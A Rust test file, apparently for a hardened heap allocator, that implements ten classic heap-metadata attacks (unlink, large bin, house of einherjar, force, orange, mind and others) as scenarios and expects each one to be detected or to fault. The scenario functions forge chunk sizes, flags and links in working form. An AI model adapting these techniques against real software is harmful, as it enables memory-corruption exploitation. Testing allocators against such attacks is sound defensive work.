//! Attacks on records that a heap keeps next to its objects: sizes, flags and links.

use crate::arena::field::{Field, is_variable, variable};
use crate::arena::memory::{get, put, write};
use crate::arena::scenario::{Chance, Ending, Scenario, slot};
use casemate::Kind;

pub const ALL: &[Scenario] = &[
    Scenario {
        name: "unlink",
        technique: "overflow into the next chunk's tags, a forged free chunk is unlinked (Solar Designer, 2000)",
        goal: "a static function index is overwritten",
        run: unlink,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 2112)],
    },
    Scenario {
        name: "unlink with a known pointer",
        technique: "the same with links that pass the check for consistent links (how2heap: unsafe unlink)",
        goal: "the program's pointer to its object points elsewhere",
        run: unlink_known,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 2112)],
    },
    Scenario {
        name: "large bin",
        technique: "stale write to the links of a free chunk in a sorted list (how2heap: large bin attack)",
        goal: "a static variable is overwritten, or an allocation is at an address of the attacker's choice",
        run: large_bin,
        effect: Chance::Never,
        ends: &[slot(Kind::WriteAfterFree, 1088)],
    },
    Scenario {
        name: "off-by-one NUL",
        technique: "one NUL past the end clears the flag of a chunk in use, which merges with a forged one (house of einherjar)",
        goal: "an allocation overlaps a live object",
        run: nul,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 48)],
    },
    Scenario {
        name: "overlapping chunks",
        technique: "overflow into the next chunk's size, which is then freed (how2heap: overlapping chunks)",
        goal: "an allocation overlaps a live object",
        run: overlapping,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 32), slot(Kind::Underflow, 32)],
    },
    Scenario {
        name: "size before the start",
        technique: "a negative index overwrites the object's own size, which is then freed",
        goal: "an allocation overlaps a live object",
        run: underflow,
        effect: Chance::Never,
        ends: &[slot(Kind::Underflow, 96), Ending::Fault],
    },
    Scenario {
        name: "house of muney",
        technique: "a negative index overwrites a large object's size, so that its free also takes the next one",
        goal: "an allocation overlaps a live object",
        run: muney,
        effect: Chance::Never,
        ends: &[Ending::Fault],
    },
    Scenario {
        name: "house of force",
        technique: "overflow into the size of the top chunk, then a huge request (Malloc Maleficarum, 2005)",
        goal: "an allocation is at an address of the attacker's choice",
        run: force,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 272)],
    },
    Scenario {
        name: "house of orange",
        technique: "overflow into the size of the top chunk, which a larger request then frees; overflow into its links (HITCON 2016)",
        goal: "the static pointer to the list of open files is overwritten",
        run: orange,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 272), Ending::Fault],
    },
    Scenario {
        name: "house of mind",
        technique: "overflow into the next chunk's flags: it is freed to a forged arena, found by its address (Malloc Maleficarum, 2005; how2heap: house of mind, fastbin)",
        goal: "a static variable is overwritten with an object's address",
        run: mind,
        effect: Chance::Never,
        ends: &[slot(Kind::Overflow, 96), slot(Kind::Underflow, 96)],
    },
];

/// Words that make `at` a free chunk below the one that starts `size` bytes further on.
fn forge(at: usize, size: usize, next: usize, prev: usize) {
    Field::put_all(at, &[0, size | 1, next, prev]);
    put(at + size, size);
}

fn unlink(f: &Field) {
    let [a, b, _] = f.take_many(2008);
    let (index, attackers) = (variable(8), variable(512));
    forge(a, 2000, index - 24, attackers);
    put(a + 2008, 2016);
    f.free(b);
    f.goal(get(index) == attackers);
    f.free(a);
}

fn unlink_known(f: &Field) {
    let [a, b, _] = f.take_many(2008);
    let pointer = variable(8);
    put(pointer, a);
    forge(a, 2000, pointer - 24, pointer - 16);
    put(a + 2008, 2016);
    f.free(b);
    f.goal(get(pointer) != a);
    f.free(a);
}

fn large_bin(f: &Field) {
    let [one, _] = [f.take(1064), f.take(24)];
    let [two, _] = [f.take(1048), f.take(24)];
    f.free(one);
    f.take(1080);
    f.free(two);
    // A chunk among the variables for a list with two links, a variable for one with four.
    let (forged, index) = (variable(32), variable(8));
    Field::put_all(forged, &[0, 1088 | 1, variable(512), variable(512)]);
    put(one + 8, forged);
    put(one + 24, index - 32);
    let at = f.take(1080);
    f.goal(get(index) != 0 || is_variable(at));
    f.go_on(1064);
}

fn nul(f: &Field) {
    let filler = f.take_many::<7>(248);
    let [a, b, c, _] = [f.take(56), f.take(40), f.take(248), f.take(24)];
    let size = Field::chunk(a + 112) - a;
    Field::put_all(a, &[0, size | 1, a, a]);
    put(b + 32, size);
    write(b + 40, 0);
    f.free_all(&filler);
    f.free(c);
    let overlaps = (0..8).any(|_| Field::overlap((f.take(344), 344), (b, 40)));
    f.goal(overlaps);
    f.free(b);
}

fn overlapping(f: &Field) {
    let [a, b, c] = f.take_many(24);
    put(a + 24, 64 | 1);
    f.free(b);
    f.goal(Field::overlap((f.take(56), 56), (c, 24)));
    f.free(a);
}

fn underflow(f: &Field) {
    let all = f.take_many::<128>(88);
    let (a, next) = (all[40], all[41]);
    put(a - 8, 112 | 1);
    f.free(a);
    f.goal(Field::overlap((f.take(104), 104), (next, 88)));
}

/// So large that together they do not raise glibc's threshold for mappings.
const HALF: usize = 17 << 20;

fn muney(f: &Field) {
    let [one, two, _] = f.take_many(HALF);
    let (below, above) = (one.min(two), one.max(two));
    // Both objects, and the mark of a mapping of its own.
    let both = ((above - below) + get(above - 8)) & !15;
    put(below - 8, both | 3);
    f.free(below);
    f.goal((0..4).any(|_| Field::overlap((f.take(HALF), HALF), (above, HALF))));
}

fn force(f: &Field) {
    let a = f.take(264);
    put(a + 264, usize::MAX);
    let top = a + 256;
    f.try_take((variable(64) - 32).wrapping_sub(top));
    f.goal(is_variable(f.try_take(24)));
    f.free(a);
}

/// Frees nothing before it has won.
fn orange(f: &Field) {
    let (files, real, forged) = (variable(8), variable(16), variable(512));
    put(files, real);
    let a = f.take(264);
    // Top must still end at a page, and there must be a page of it.
    let top = get(a + 264) & 0xfff | 0x1000 | 1;
    put(a + 264, top);
    f.take(0x5000);
    // The links of what is now a free chunk lead to the list's pointer and to a file.
    Field::put_all(a + 264, &[96 | 1, forged, files - 16]);
    f.take(10);
    f.goal(get(files) != real);
    f.free(a);
}

/// What the arenas of glibc beside the first one are aligned to.
const ARENA: usize = 64 << 20;
/// An object that is not a mapping of its own in glibc.
const PIECE: usize = 120_000;

fn mind(f: &Field) {
    // The fast list of chunks of 96 bytes in the forged arena, and its limit on sizes.
    let (lists, limit) = (variable(2), variable(273));
    let target = lists + (96 / 16 - 2) * 8;
    let arena = lists - 16;
    Field::put_all(limit, &[1 << 20; 2]);
    // Objects until one of them lies where the record of the arena is looked for.
    let record = (0..ARENA / PIECE + 2).find_map(|_| {
        let at = f.take(PIECE);
        let record = (at + PIECE) & !(ARENA - 1);
        (record >= at).then_some(record)
    });
    let filler = f.take_many::<7>(88);
    let [a, b, _] = f.take_many(88);
    if let Some(record) = record {
        put(record, arena);
    }
    f.free_all(&filler);
    put(a + 88, 96 | 4 | 1);
    f.free(b);
    f.goal(get(target) == Field::chunk(b));
    f.free(a);
}
